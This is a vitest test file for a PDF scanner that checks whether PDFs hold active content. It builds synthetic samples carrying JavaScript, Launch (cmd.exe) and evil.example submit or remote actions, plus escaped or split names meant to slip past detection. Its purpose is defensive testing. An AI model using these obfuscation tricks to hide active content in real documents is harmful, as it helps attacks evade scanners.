import { readFileSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { scanPdf } from './scan-pdf.ts'

const file = (name: string) => readFileSync(new URL(`./testing/${name}.pdf`, import.meta.url))
const PAGES = '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R>>endobj'

/** Builds a PDF of catalogue entries and objects. */
const pdf = (entries: string, ...objects: (string | Buffer)[]) =>
  Buffer.concat(
    [
      `%PDF-1.7\n1 0 obj\n<</Type /Catalog /Pages 2 0 R ${entries}>>\nendobj\n${PAGES}\n`,
      ...objects,
      '\ntrailer\n<</Root 1 0 R>>\n%%EOF\n',
    ].map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  )
const action = (words: string) => pdf('', `4 0 obj<<${words}>>endobj`)
/** Builds an object stream of dictionary entries and packed objects. */
const packed = (entries: string, content: string, pack: (bytes: Buffer) => Buffer = deflateSync) =>
  Buffer.concat([
    Buffer.from(`9 0 obj<<${entries}>>stream\n`),
    pack(Buffer.from(content, 'latin1')),
    Buffer.from('\nendstream endobj'),
  ])
const FLATE = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode'

describe('a PDF', () => {
  it.each(['chromium', 'libreoffice', 'object-streams'])(
    'PL-03 is harmless when an ordinary program made it: %s',
    (name) => {
      expect(scanPdf(file(name))).toBe('harmless')
    },
  )

  it.each([
    ['a URL that contains an active name', action('/S/URI/URI(https://example.com/Web/JavaScript)')],
    ['a title that contains an active name', action('/Title(and/or/Launch)')],
    ['a destination as open action', pdf('/OpenAction[3 0 R/XYZ null null 0]')],
    ['a GoTo action as open action', pdf('/OpenAction 4 0 R', '4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj')],
    ['a packed GoTo action as open action', pdf('/OpenAction 4 0 R', packed(FLATE, '4 0 <</S/GoTo/D[3 0 R/Fit]>>'))],
    ['an outline', pdf('/Outlines 5 0 R', '5 0 obj<</First 6 0 R/Last 6 0 R/Count 1>>endobj')],
    ['stream bytes that look like actions', pdf('', '5 0 obj<</Length 9>>stream\n/AA /JS (<<\nendstream endobj')],
  ])('PL-03 is harmless with %s', (_what, bytes) => {
    expect(scanPdf(bytes)).toBe('harmless')
  })

  it.each([
    ['JavaScript', action('/S /JavaScript /JS (app.alert\\(1\\))')],
    ['JavaScript without spaces', action('/S/JavaScript/JS 5 0 R')],
    ['an escaped name', action('/S/J#61vaScript')],
    ['a name escaped twice', action('/S/J#2361vaScript')],
    ['a name escaped three times', action('/S/J#232361vaScript')],
    ['a name escaped too often', action(`/S/J#${'23'.repeat(30)}61vaScript`)],
    ['a name split by a space', action('/S/Java Script')],
    ['a name split by a NUL byte', action('/S/Java\0Script')],
    ['a name split by a comment', action('/S/Java%\nScript')],
    ['a name with an escaped space', action('/S/Java#20Script')],
    ['an indirect action type', pdf('', '4 0 obj<</S 5 0 R>>endobj 5 0 obj(x/JavaScript)endobj')],
    ['a rendition', action('/S/Rendition')],
    ['a launch action', action('/S/Launch/F(cmd.exe)')],
    ['a form submission', action('/S/SubmitForm/F(https://evil.example)')],
    ['a data import', action('/S/ImportData/F(data.fdf)')],
    ['a GoTo of an embedded file', action('/S/GoToE/T<</R/C>>')],
    ['a GoTo of a remote file', action('/S/GoToR/F(//evil.example/share/x.pdf)')],
    ['embedded files', pdf('/Names<</EmbeddedFiles 5 0 R>>')],
    ['an attachment', action('/Subtype/FileAttachment')],
    ['an embedded file by its short key', action('/Type/Filespec/EF<</F 5 0 R>>')],
    ['rich media', action('/Subtype/RichMedia')],
    ['an XFA form', pdf('/AcroForm<</XFA 5 0 R>>')],
    ['an additional action of a page', pdf('', '4 0 obj<</AA<</O<</S/URI/URI(https://evil.example)>>>>>>endobj')],
    ['a URI as open action', pdf('/OpenAction<</S/URI/URI(https://evil.example)>>')],
    ['a named open action by reference', pdf('/OpenAction 4 0 R', '4 0 obj<</S/Named/N/Print>>endobj')],
    ['an action chained to a GoTo', pdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(x)>>>>')],
    [
      'an open action that is defined twice',
      pdf('/OpenAction 4 0 R', '4 0 obj[3 0 R/Fit]endobj 4 0 obj<</S/URI>>endobj'),
    ],
    ['an open action that is missing', pdf('/OpenAction 44 0 R')],
    ['JavaScript in a comment', pdf('', '% 4 0 obj <</S/JavaScript>> endobj\n')],
    ['JavaScript in a string', pdf('', '4 0 obj(5 0 obj <</S /JavaScript>> endobj)endobj')],
    [
      'JavaScript in a stream',
      pdf('', '4 0 obj<</Length 40>>stream\n5 0 obj<</S/JavaScript>>endobj\nendstream endobj'),
    ],
    ['JavaScript in a packed object', file('packed-script')],
    ['an escaped name in a packed object', pdf('', packed(FLATE, '4 0 <</S/J#61vaScript>>'))],
    ['an action in a packed object', pdf('', packed(FLATE, '4 0 <</AA 5 0 R>>'))],
    ['packed objects without a type', pdf('', packed('/N 1/First 4/Filter[/Fl]', '4 0 <</S/JavaScript>>'))],
    [
      'objects in an uncompressed stream',
      pdf(
        '',
        packed('/N 1/First 4', '4 0 <</S/L#61unch>>', (bytes) => bytes),
      ),
    ],
  ])('PL-03 is active with %s', (_what, bytes) => {
    expect(scanPdf(bytes)).toBe('active')
  })

  it.each([
    ['compressed twice', FLATE.replace('/FlateDecode', '[/ASCIIHexDecode/FlateDecode]')],
    ['of an indirect filter', FLATE.replace('/FlateDecode', ' 7 0 R')],
    ['of a predictor', `${FLATE}/DecodeParms<</Predictor 12/Columns 4>>`],
    ['in another file', `${FLATE}/F(//evil.example/x)`],
    ['of an indirect count', FLATE.replace('/N 1', '/N 7 0 R')],
  ])('PL-03 is unreadable with packed objects %s', (_what, entries) => {
    expect(scanPdf(pdf('', packed(entries, '4 0 <</S/Span>>')))).toBe('unreadable')
  })

  it('PL-03 is unreadable with damaged or oversized packed objects', () => {
    const cut = (bytes: Buffer) => deflateSync(bytes).subarray(0, -8)
    expect(scanPdf(pdf('', packed(FLATE, `4 0 ${'<</S/Span>>'.repeat(99)}`, cut)))).toBe('unreadable')
    expect(scanPdf(pdf('', packed(FLATE, ' '.repeat(20_000_000))))).toBe('unreadable')
    expect(scanPdf(action('/A'.repeat(3) + '['.repeat(5000)))).toBe('unreadable')
  })

  it('PL-03 is recognised as encrypted or not a PDF', () => {
    expect(scanPdf(file('encrypted'))).toBe('encrypted')
    expect(scanPdf(Buffer.from('<html>%PDF-1.4 %%EOF'))).toBe('no_pdf')
    expect(scanPdf(Buffer.concat([file('chromium'), Buffer.from('<script>alert(1)</script>')]))).toBe('no_pdf')
  })

  it.each(
    ['#41', '/#41', '/#232341', '/', '/Java ', '1 0 obj', '1 0 obj<</A', '1 0 obj(', '1 0 obj[', '(', '<<', '%'].concat(
      ['1 0 obj<</N 1/First 1/Filter/Fl>>stream\n', '1 0 obj<</OpenAction 1 0 R', 'stream\n', 'endobj'],
    ),
  )('OP-03 is aborted after a number of steps: %j repeated', (part) => {
    expect(scanPdf(Buffer.from(`%PDF-1.4\n${part.repeat(200_000 / part.length)}\n%%EOF`), 100_000)).toBe('unreadable')
  })
})
